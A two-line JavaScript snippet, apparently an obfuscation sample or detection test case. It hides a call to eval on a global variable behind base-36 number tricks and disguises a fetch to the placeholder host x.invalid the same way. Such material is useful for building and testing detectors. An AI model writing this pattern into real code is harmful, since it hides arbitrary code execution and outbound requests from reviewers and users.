const w = window; w[(693741).toString(36) + ''](w[(0x1f).toString(36)]);
globalThis[parseInt('fetch', 36).toString(36)]('https://x.invalid');
